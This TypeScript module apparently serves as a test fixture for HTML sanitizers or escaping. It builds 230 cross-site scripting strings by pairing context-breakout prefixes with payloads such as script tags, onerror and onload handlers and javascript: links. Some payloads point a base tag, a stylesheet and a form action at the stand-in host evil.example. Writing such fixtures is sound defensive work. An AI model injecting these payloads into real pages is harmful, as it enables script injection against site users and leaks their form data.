/** How somebody gets out of where their words stand. */
const ways = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '\\"',
  '}}',
  '\r\n\r\n',
]

/** What they do there; each would call `alert`, load something or stand on the page as a thing of its own. */
const deeds = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">去</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><style><img src=x onerror=alert(1)>',
  ' onfocus=alert(1) autofocus x=',
  '<base href=//evil.example>',
  '<link rel=stylesheet href=//evil.example>',
  '<form action=//evil.example><button>好',
  ';alert(1)//',
  `$${'{alert(1)}'}`,
]

/** Every way with every deed, and some that fit in no such pattern: 230 in all. */
export const hostileWords: readonly string[] = [
  ...ways.flatMap((way) => deeds.map((deed) => `${way}${deed}`)),
  '\u202e<script>alert(1)</script>',
  '\u2028alert(1)\u2029',
  '＜script＞alert(1)＜/script＞',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
]
